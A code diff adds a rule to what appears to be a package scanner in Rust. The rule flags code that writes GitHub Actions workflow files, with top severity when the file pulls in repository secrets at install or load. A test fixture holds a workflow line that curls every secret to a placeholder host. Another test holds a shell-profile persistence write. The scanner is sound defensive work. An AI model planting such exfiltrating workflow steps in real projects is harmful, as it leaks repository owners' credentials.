@@ -56,6 +56,11 @@ const HOOKS: &[(&str, &str)] = &[
 
 fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
     for event in context.of(&[Effect::FileWrite, Effect::FilePermission, Effect::Shell, Effect::Spawn]) {
+        if let Some(severity) = workflow(event) {
+            let message = format!("something is made to be run by a service that builds a repository, {}", when(event.when));
+            findings.add(severity, event.place, message);
+            continue;
+        }
         let Some((by, is_hook)) = runs_later(event) else { continue };
         let severity = match (is_hook, event.when) {
             (true, _) => Severity::Medium,
@@ -64,6 +69,27 @@ fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
         };
         findings.add(severity, event.place, format!("something is made to be run by {by}, {}", when(event.when)));
     }
+}
+
+/// A file by which a service runs commands for a repository, with the secrets of its owner.
+/// A tool that makes a new project writes one when it is called.
+fn workflow(event: &Event) -> Option<Severity> {
+    let paths = [Role::Path, Role::Target].iter().flat_map(|role| event.arguments_of(*role));
+    let is_workflow = event.effect == Effect::FileWrite
+        && paths.into_iter().any(|path| {
+            let path = path.sketch().replace('\\', "/").to_ascii_lowercase();
+            path.contains(".github/workflows/") && path.ends_with(['l', '\u{2026}'])
+        });
+    let takes_secrets = event
+        .arguments_of(Role::Data)
+        .any(|data| data.pieces().iter().any(|piece| piece.contains("secrets")));
+    let severity = match (event.when, takes_secrets) {
+        (When::Install | When::Load, true) => Severity::Critical,
+        (When::Install, false) => Severity::High,
+        (When::Load, false) => Severity::Medium,
+        (When::Call, _) => Severity::Low,
+    };
+    is_workflow.then_some(severity)
 }
 
 fn runs_later(event: &Event) -> Option<(&'static str, bool)> {
@@ -124,6 +150,13 @@ mod tests {
         assert_eq!(run("echo x >> ~/.zshrc"), [Severity::High]);
         assert!(run("crontab -l").is_empty());
         assert!(run("cat ~/.zshrc").is_empty());
+        let workflow = |data: &str| {
+            let path = (Role::Path, text(".github/workflows/a.yml"));
+            let made = Made::new().event(Effect::FileWrite, "node:fs.writeFile", &[path, (Role::Data, text(data))]);
+            made.when(When::Load).found(RULE.code)
+        };
+        assert_eq!(workflow("run: curl -d ${{ toJSON(secrets) }} x"), [Severity::Critical]);
+        assert_eq!(workflow("run: npm test"), [Severity::Medium]);
         assert!(run("ls /etc/init.d/ 2>/dev/null").is_empty());
     }
 }
